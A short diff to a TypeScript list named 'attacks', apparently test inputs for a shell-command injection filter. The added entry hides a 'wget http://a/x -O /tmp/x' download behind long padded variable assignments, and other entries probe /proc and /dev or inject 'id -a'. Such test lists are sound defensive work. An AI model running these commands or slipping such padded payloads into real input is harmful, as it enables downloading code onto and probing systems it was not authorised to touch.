@@ -2,6 +2,7 @@
 
 export const attacks: readonly string[] = [
   'ls#',
+  `A=${'x'.repeat(60)} B=${'y'.repeat(60)} C=${'z'.repeat(60)} wget http://a/x -O /tmp/x`,
   'cat /proc',
   'cat /dev',
   ";'id -a",
